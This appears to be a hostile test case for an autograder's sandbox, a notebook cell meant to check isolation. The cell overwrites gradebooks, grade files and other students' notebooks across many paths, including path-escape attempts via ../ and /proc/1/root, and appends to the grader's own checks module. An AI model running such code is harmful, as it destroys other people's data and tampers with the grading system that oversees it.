# about: tries to rewrite the gradebook, grades.csv, other students' submissions, source/, the package and a canary
# base: 00_orientation/ben
# expect: auto=2

# %% first:
import glob, os
targets = []
for pattern in ["/work/**/*.ipynb", "/work/**/gradebook.db", "/work/**/grades.csv", "/tmp/**/*.ipynb",
                "/tmp/**/gradebook.db", "/tmp/**/hostile-canary.txt", "/work/main/autograder/*.py",
                "../**/*.ipynb", "../../**/*.ipynb", "/proc/1/root/tmp/**/*.ipynb"]:
    targets += glob.glob(pattern, recursive=True)
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("{}")
    except OSError:
        pass
try:
    import autograder.checks as c
    open(c.__file__, "a").write("\n# hostile\n")
except OSError:
    pass
